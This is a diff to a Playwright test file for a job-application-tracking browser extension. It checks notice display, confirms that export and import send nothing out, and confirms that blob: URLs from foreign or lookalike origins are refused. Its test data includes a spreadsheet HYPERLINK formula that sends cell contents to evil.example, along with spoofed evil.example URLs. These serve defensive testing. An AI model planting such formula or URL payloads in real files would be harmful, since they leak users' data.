@@ -11,6 +11,9 @@ import { PAGES, servedPages } from './pages';
 const FORMULA_NOTE = '=1+1';
 const LINK_NOTE = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")';
 
+/** The extension pages' own messaging, as a page script sees it. */
+type RuntimeGlobal = { chrome: { runtime: { sendMessage(message: unknown): Promise<unknown> } } };
+
 /** Every record in the extension's database, read with plain IndexedDB from an extension page. */
 function readDatabase(page: Page) {
   return page.evaluate(async () => {
@@ -132,7 +135,7 @@ test('without workers, the page makes the export files itself, and they hold the
   const log = await readDatabase(dashboard);
   const backup = await exportFile(dashboard, 'Full backup (JSON)', dir, { inWorker: false });
   // The notice that it went well floats under the button, then steps aside.
-  const status = menu(dashboard).getByTestId('transfer-status');
+  const status = dashboard.locator('.notices [role="status"]');
   await expect(status).toContainText(`Saved ${backup.name}`);
   await dashboard.clock.fastForward('00:11');
   await expect(status).toBeEmpty();
@@ -146,7 +149,7 @@ test('without workers, the page makes the export files itself, and they hold the
   }).toEqual(log);
   const csv = await exportFile(dashboard, 'Applications (CSV)', dir, { inWorker: false });
   await expect(status).toContainText(`Saved ${csv.name}`);
-  await menu(dashboard).getByRole('button', { name: 'Dismiss' }).click();
+  await status.getByRole('button', { name: 'Dismiss' }).click();
   await expect(status).toBeEmpty();
   const rows = Papa.parse<Record<string, string>>(readFileSync(csv.path, 'utf8').replace(/^\uFEFF/, ''), {
     header: true,
@@ -184,10 +187,50 @@ test('an export worker that fails before it is asked is let go, and the page mak
   expect(file.applications).toEqual(log.applications);
 });
 
+test('the background fetches only blob: URLs of the extension’s own pages, and nothing leaves the machine', async ({
+  context,
+  extensionId,
+  extensionRequests,
+}) => {
+  const dashboard = await openExtensionPage(context, extensionId, 'dashboard.html');
+  await expect(menu(dashboard)).toBeVisible();
+  const replies = await dashboard.evaluate(async (id) => {
+    const { runtime } = (globalThis as unknown as RuntimeGlobal).chrome;
+    const ask = (url: string) =>
+      runtime.sendMessage({
+        type: 'import:files',
+        importId: crypto.randomUUID(),
+        files: [{ name: 'backup.json', url }],
+        mode: 'merge',
+        apply: false,
+      });
+    // Another site's blob, another extension's, and a name made to look like this one's.
+    return [
+      await ask('blob:https://evil.example/0b6c2f3e-1111-4a4a-9c9c-000000000001'),
+      await ask('blob:chrome-extension://abcdefghijklmnopabcdefghijklmnop/0b6c2f3e'),
+      await ask(`blob:chrome-extension://${id}.evil.example/0b6c2f3e`),
+    ];
+  }, extensionId);
+  for (const reply of replies) expect(reply).toEqual({ ok: true, data: { status: 'unreachable' } });
+  // A URL that is not a blob: URL is refused before it reaches the background's import.
+  const refused = await dashboard.evaluate(() =>
+    (globalThis as unknown as RuntimeGlobal).chrome.runtime.sendMessage({
+      type: 'import:files',
+      importId: crypto.randomUUID(),
+      files: [{ name: 'backup.json', url: 'https://evil.example/backup.json' }],
+      mode: 'merge',
+      apply: false,
+    }),
+  );
+  expect(refused).toMatchObject({ ok: false });
+  expect(extensionRequests).toEqual([]);
+});
+
 test('export, delete everything, import: the log comes back exactly; broken files change nothing', async ({
   context,
   serve,
   extensionId,
+  extensionRequests,
 }) => {
   const dir = mkdtempSync(join(tmpdir(), 'tasklens-transfer-'));
   await serve(servedPages('outlier', 'linkedinJob'));
@@ -254,7 +297,9 @@ test('export, delete everything, import: the log comes back exactly; broken file
   dialog = await importFiles(dashboard, [backup.path]);
   await expect(dialog.getByTestId('preview-applications').locator('[data-column="added"]')).toHaveText('2');
   await dialog.getByRole('button', { name: 'Import', exact: true }).click();
-  await expect(menu(dashboard).getByTestId('transfer-status')).toContainText('Imported');
+  // The dialog closes once the log is written; an earlier import's notice may still be showing.
+  await expect(dialog).toBeHidden();
+  await expect(dashboard.getByTestId('notice').filter({ hasText: 'Imported' }).last()).toBeVisible();
   await expect(dashboard.getByTestId('applications')).toContainText('Biology Expert – AI Training');
   await expect(dashboard.getByTestId('applications')).toContainText('AI Trainer – Spanish Writer');
   expect(await readDatabase(dashboard)).toEqual(before);
@@ -284,10 +329,14 @@ test('export, delete everything, import: the log comes back exactly; broken file
   await cdp.send('ServiceWorker.stopAllWorkers');
   await cdp.detach();
   await dialog.getByRole('button', { name: 'Import', exact: true }).click();
-  await expect(menu(dashboard).getByTestId('transfer-status')).toContainText('Imported');
+  // The dialog closes once the log is written; an earlier import's notice may still be showing.
+  await expect(dialog).toBeHidden();
+  await expect(dashboard.getByTestId('notice').filter({ hasText: 'Imported' }).last()).toBeVisible();
   const fromCsv = await readDatabase(dashboard);
   expect(fromCsv.applications).toEqual(before.applications);
   expect(fromCsv.events).toEqual(before.events);
+  // Exporting and importing (the background fetching the chosen files' blob: URLs) sent nothing out.
+  expect(extensionRequests).toEqual([]);
 
   // LibreOffice opens the CSV with the right columns and evaluates no formula.
   const soffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' });
